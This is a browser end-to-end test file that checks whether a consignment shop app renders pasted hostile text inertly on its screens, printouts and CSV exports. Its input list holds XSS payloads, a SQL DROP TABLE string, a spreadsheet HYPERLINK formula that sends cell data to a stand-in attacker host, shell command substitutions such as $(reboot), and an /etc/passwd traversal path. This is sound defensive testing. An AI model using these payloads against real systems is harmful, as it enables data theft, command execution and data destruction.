import { readFile } from 'node:fs/promises'
import { searchKey } from '@shop/shared/kernel/text.ts'
import Papa from 'papaparse'
import type { Page } from 'playwright-core'
import { beforeAll, expect, it } from 'vitest'
import { Device } from './browser.ts'
import { joinShop } from './consignor.ts'
import { askForAll, batchesOf, expectShown, type HostileTrade } from './hostile-trades.ts'
import { firstPrint, keepPrints } from './printer.ts'
import { chooseToAdd } from './row-menu.ts'
import { serverRows } from './rows.ts'
import { browser, server, token, withShop } from './shop.ts'
import { newId, runCommands, tillSale } from './shop-data.ts'
import { expectAllSent, openTill } from './till.ts'

/** Text that people paste, by accident or on purpose. */
const TEXTS = [
  '<script>window.hostile = 1</script>',
  '"><img src=x onerror="window.hostile = 1">',
  "'; DROP TABLE items; --",
  '=HYPERLINK("http://evil.example?"&A1,"Click")',
  '+1+1|cmd',
  '@SUM(1+1)',
  '-2+3',
  '{{constructor.constructor("window.hostile = 1")()}}',
  '%s %n $(reboot) `id`',
  'السلام עולם ‮evil‬',
  '田中さんにあげて下さい 👩‍👩‍👧‍👦 🏳️‍🌈',
  'Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤',
  'zero​width‍joiner﻿',
  'null undefined NaN true',
  '../../../etc/passwd',
  'http://a/%%30%30',
]

let tablet: Device
let page: Page

withShop()
beforeAll(async () => {
  tablet = await Device.open(browser, server)
  page = await tablet.signIn()
})

const isInert = async (...pages: Page[]) => {
  for (const one of [page, ...pages]) expect(await one.evaluate(() => 'hostile' in window)).toBe(false)
}
/** Cells of a CSV file that a spreadsheet would run. */
const runnable = (csv: string) => Papa.parse<string[]>(csv).data.flatMap((cells) => cells.filter((cell) => /^[=+@-]\D/.test(cell)))

it('the item form stores text as typed, and the page shows it without running it', async () => {
  await page.goto(`${server.url}/admin`)
  const typed = TEXTS.slice(0, 4)
  for (const [at, text] of typed.entries()) {
    await chooseToAdd(page, 'Add to Master Inventory')
    const form = page.getByRole('dialog')
    await form.getByLabel('Item name').fill(text)
    await form.getByLabel('Listing title').fill(text)
    await form.getByLabel(/^Barcode 1/).fill(`HOSTILE-${at}`)
    await form.getByLabel('Location').fill(text)
    await form.getByRole('button', { name: /^(Add|Save)/ }).click()
    await form.waitFor({ state: 'hidden' })
    await page.getByRole('table', { name: 'Items' }).getByText(text).first().waitFor()
  }
  await expectAllSent(page)
  const { items } = await serverRows(server, token)
  const stored = (at: number) => items.find(({ barcode1 }) => barcode1 === `HOSTILE-${at}`)
  for (const [at, text] of typed.entries()) expect(stored(at)).toMatchObject({ itemName: text, listingTitle: text, location: text })
  await isInert()
})

it('hostile names appear as text in the list and on the till, and searches find them', async () => {
  await runCommands(
    server,
    token,
    TEXTS.map((text, at) => ({
      name: 'inventory.addMaster',
      args: {
        id: newId(),
        texts: { itemName: text, listingTitle: text, barcode1: `TEXT-${at}`, location: text, priceCents: 100 },
        quantity: 1,
      },
    })),
  )
  for (const text of TEXTS) {
    await page.goto(`${server.url}/admin?q=${encodeURIComponent(text)}`)
    await page.getByRole('table', { name: 'Items' }).getByText(text, { exact: true }).first().waitFor()
  }
  await isInert()
  await page.goto(`${server.url}/pos`)
  await openTill(page)
  for (const text of TEXTS) {
    await page.getByLabel('Search items').fill(text)
    await page.getByRole('option').getByText(text, { exact: true }).first().waitFor()
  }
  await isInert()
})

it('hostile names appear as text on ten other screens, and run nowhere in the app or on the landing page', async () => {
  const { uid } = await server.request<{ uid: string }>('GET', '/auth/me', undefined, token)
  const evil = '"><img src=x onerror="window.hostile = 1"></script>'
  const line = { itemName: evil, unitPriceCents: 500, barcode: '1', consignorId: uid, consignorName: evil }
  const fields = Object.fromEntries(['name', 'street', 'city', 'state', 'zip', 'country'].map((field) => [field, evil]))
  await runCommands(server, token, [
    { name: 'settings.change', args: { changes: { shopName: evil, shopAddress: evil } } },
    { name: 'accounts.editProfile', args: { uid, changes: { displayName: evil } } },
    { name: 'accounts.addAddress', args: { id: newId(), uid, fields } },
    { name: 'sales.custom', args: { saleId: newId(), consignorId: uid, itemName: evil, amountCents: 5_000 } },
    tillSale(evil, [line], { kind: 'card', label: evil }),
    { name: 'shipments.submit', args: { id: newId(), uid, carrier: evil, trackingNumber: evil } },
    { name: 'payouts.request', args: { payoutId: newId(), uid, amountCents: 100, method: 'venmo', handle: evil.replaceAll(' ', '') } },
    {
      name: 'inventory.addConsignor',
      args: { id: newId(), consignorId: uid, texts: { itemName: evil, barcode1: evil, location: evil }, quantity: 3 },
    },
  ])
  await server.request('POST', '/admin/send-email', { email: 'a@example.org', subject: evil, htmlContent: `${evil}<b>bold</b>` }, token)
  const shown = [
    '/dashboard',
    '/sales-history',
    '/user-shipments',
    '/profile',
    '/pos/sales',
    '/pos/sales/recorded',
    '/admin-shipments',
    '/consignors',
    '/payout-requests',
    '/email-tool',
    '/audit',
  ]
  for (const path of [...shown, '/marketplace', '/settings', '/ledger', '/discrepancies', '/admin-fulfillment', '/']) {
    await page.goto(`${server.url}${path}`)
    await page.getByRole('heading').first().waitFor()
    if (shown.includes(path)) await page.getByText('onerror=').first().waitFor({ state: 'attached' })
    await isInert()
  }
})

const open = (on: Page, path: string) => on.goto(server.url + path)
const confirm = (on: Page, name: string) => on.getByRole('dialog').getByRole('button', { name, exact: true }).click()

/** Pastes texts into the search and the form of a request. */
async function pasteIntoRequest(buyerPage: Page, names: readonly string[], noNumber: string, evil: string) {
  await open(buyerPage, '/marketplace')
  for (const text of names.filter((one) => searchKey(one) !== '')) {
    await buyerPage.getByLabel('Search items by name').fill(text)
    await expectShown(buyerPage, [text])
  }
  // a search that still narrows the list would take the first item away, and its form with it
  await buyerPage.getByLabel('Search items by name').fill('')
  await buyerPage
    .getByRole('button', { name: /^Make Offer/ })
    .first()
    .click()
  const request = buyerPage.getByRole('dialog', { name: 'Request Trade' })
  await request.getByText(evil).first().waitFor()
  await request.getByLabel('Quantity').fill(noNumber)
  await request.getByLabel('Price per Item').fill(noNumber)
  await request.getByRole('button', { name: 'Submit Trade Request' }).click()
  await request.getByText(/^Quantity must be between 1 and/).waitFor()
  await request.getByText('Price per item must be greater than 0').waitFor()
}

/** Checks the offers on the seller's phone, as cards, and on the buyer's tablet, as a table. Then the buyer cancels the newest request. */
async function negotiate(sellerPage: Page, buyerPage: Page, names: readonly string[], noNumber: string) {
  await open(sellerPage, '/marketplace?tab=offers')
  await expectShown(sellerPage, names)
  await sellerPage
    .getByRole('button', { name: /^Counter/ })
    .first()
    .click()
  await sellerPage.getByLabel('Counter price per item').fill(noNumber)
  await sellerPage.getByRole('button', { name: 'Send Counter Offer' }).click()
  await sellerPage.getByText('Invalid counter price').waitFor()
  await open(buyerPage, '/marketplace?tab=offers')
  await expectShown(buyerPage, names)
  // the newest request is first in the list
  await buyerPage
    .getByRole('button', { name: /^Cancel: / })
    .first()
    .click()
  await buyerPage.getByLabel('Reason (optional)').fill([...names.join('\n')].slice(0, 400).join(''))
  await buyerPage.getByRole('button', { name: 'Cancel trade', exact: true }).click()
  await buyerPage.getByText('Trade cancelled successfully').waitFor()
}

async function exportTrades(buyerPage: Page, names: readonly string[]) {
  await open(buyerPage, '/my-trades')
  await expectShown(buyerPage, names)
  const downloading = buyerPage.waitForEvent('download')
  await buyerPage.getByRole('button', { name: 'CSV', exact: true }).click()
  expect(runnable(await readFile(await (await downloading).path(), 'utf8'))).toEqual([])
}

/** Checks the texts on the screen of orders and on the printed packing slips. */
async function printSlips(sold: readonly HostileTrade[]) {
  await open(page, '/admin-fulfillment')
  await expectShown(
    page,
    sold.flatMap(({ text }) => [text, text.slice(0, 200).trim()]),
  )
  const slips = page.getByRole('button', { name: /^Print packing slip/ })
  expect(await slips.count()).toBe(sold.length)
  const printed = () => page.evaluate(() => (window as unknown as { printed: string[] }).printed)
  for (let n = 0; n < sold.length; n++) {
    await slips.nth(n).click()
    await expect.poll(async () => (await printed()).length).toBe(n + 1)
  }
  const papers = await printed()
  for (const { text, tradeId } of sold) {
    const slip = papers.find((paper) => paper.includes(tradeId.slice(0, 8)))
    expect(slip).toContain(text)
    expect(slip).not.toContain('sam-seller')
  }
}

/** Enters a hostile tracking number, deletes a trade, and checks the cancelled trade and its reason on the screen. */
async function refuseAndDelete(withdrawn: HostileTrade | undefined, evil: string) {
  await page
    .getByRole('button', { name: /^Add Tracking/ })
    .first()
    .click()
  await page.getByLabel('USPS tracking number').fill(evil)
  await confirm(page, 'Add Tracking')
  await page.getByText('A tracking number has letters and digits only').waitFor()
  await page.keyboard.press('Escape')
  await page
    .getByRole('button', { name: /^Delete trade/ })
    .first()
    .click()
  await confirm(page, 'Delete trade')
  await page.getByText('Trade deleted successfully. Refunds and inventory restored.').waitFor()
  await open(page, '/admin-fulfillment?status=cancelled')
  await expectShown(page, [withdrawn?.text ?? ''])
  await page.getByText('Reason: ').first().waitFor()
}

// `batchesOf` adds the texts of NAUGHTY_STRINGS, which may be many
it('hostile names, addresses and reasons stay text where trades are made, shipped and printed', { timeout: 1_800_000 }, async () => {
  const seller = await joinShop(server, 'Sam Seller')
  const buyer = await joinShop(server, 'Bea Buyer')
  await server.request('PUT', `/sales/balance/${buyer.uid}`, { balance: 10_000, reason: 'to trade with' }, token)
  const [phone, other] = [await Device.open(browser, server, { width: 390, height: 844 }), await Device.open(browser, server)]
  const sellerPage = await phone.signIn(seller.email, seller.password)
  const buyerPage = await other.signIn(buyer.email, buyer.password)
  await keepPrints(tablet.context)
  const evil = '"><img src=x onerror="window.hostile = 1">'
  const address = Object.fromEntries(['name', 'street', 'city', 'state', 'zip', 'country'].map((field) => [field, evil]))
  await server.request('POST', '/auth/addresses', address, buyer.token)

  for (const [nth, texts] of batchesOf(TEXTS).entries()) {
    const made = await askForAll(server, token, { seller, buyer }, texts, `TRADE-${nth}`)
    const names = made.map(({ text }) => text)
    const noNumber = names.find((text) => !/^[\s\d.,$]+$/.test(text)) ?? evil
    await pasteIntoRequest(buyerPage, names, noNumber, evil)
    await negotiate(sellerPage, buyerPage, names, noNumber)
    // the buyer has cancelled the newest request
    const [withdrawn, ...sold] = [...made].reverse()
    for (const { offerId } of sold) await server.request('POST', `/trades/offers/${offerId}/accept`, {}, seller.token)
    await exportTrades(buyerPage, names)
    await printSlips(sold)
    await refuseAndDelete(withdrawn, evil)
    await isInert(sellerPage, buyerPage)
    const { orders } = await server.request<{ orders: { tradeId: string }[] }>('GET', '/trades/admin/fulfillment-orders', undefined, token)
    for (const { tradeId } of [...orders, ...(withdrawn ? [withdrawn] : [])])
      await server.request('DELETE', `/trades/admin/${tradeId}/cancel`, undefined, token)
  }
  for (const device of [phone, other]) {
    await device.close()
  }
})

it('an export contains the texts, but no cell that a spreadsheet would run', async () => {
  await page.goto(`${server.url}/admin`)
  await page.getByRole('table', { name: 'Items' }).waitFor()
  const downloading = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Export', exact: true }).click()
  const csv = await readFile(await (await downloading).path(), 'utf8')
  expect(runnable(csv)).toEqual([])
  expect(csv).toContain('<script>window.hostile = 1</script>')
  expect(csv).toContain('DROP TABLE')
})

it('a printed receipt and the notes of discrepancies show every text as text', async () => {
  // unknown consignors: each opens a discrepancy with the name in its note
  const lines = TEXTS.map((text) => ({ itemName: text, unitPriceCents: 100, consignorId: newId(), consignorName: text }))
  await runCommands(server, token, [
    { name: 'settings.change', args: { changes: { shopName: TEXTS[1] } } },
    tillSale('HOSTILE-2', lines, { kind: 'other', label: TEXTS[0] ?? '' }),
  ])
  await keepPrints(tablet.context)
  await page.goto(`${server.url}/pos/sales`)
  await page.getByRole('list', { name: 'Sales' }).getByRole('button').filter({ hasText: 'HOSTILE-2' }).click()
  const detail = page.getByRole('dialog', { name: 'Sale HOSTILE-2' })
  await detail.getByRole('button', { name: 'Show receipt' }).click()
  const shown = page.getByRole('article', { name: 'Receipt HOSTILE-2' })
  for (const text of TEXTS) await shown.getByText(text, { exact: true }).first().waitFor()
  await page.getByRole('dialog', { name: 'Receipt HOSTILE-2' }).getByRole('button', { name: 'Reprint' }).click()
  const paper = await firstPrint(page)
  expect(TEXTS.filter((text) => !paper.includes(text))).toEqual([])
  await isInert()

  await page.goto(`${server.url}/discrepancies`)
  const open = page.getByRole('table', { name: 'Open discrepancies' })
  for (const text of TEXTS) await open.getByText(`Goods of a consignor who is gone: ${text}`).waitFor()
  await open.getByRole('row').filter({ hasText: 'onerror=' }).first().getByRole('button', { name: 'Settle' }).click()
  const form = page.getByRole('dialog', { name: 'Settle' })
  await form.getByRole('radio', { name: 'Accept' }).check()
  await form.getByLabel('Note').fill(TEXTS[1] ?? '')
  await form.getByRole('button', { name: 'Accept' }).click()
  await page.getByText('Accept: settled').waitFor()
  await page.getByText('Settled', { exact: true }).click()
  await page.getByRole('table', { name: 'Settled discrepancies' }).getByText(`· ${TEXTS[1]}`).waitFor()
  await isInert()
})
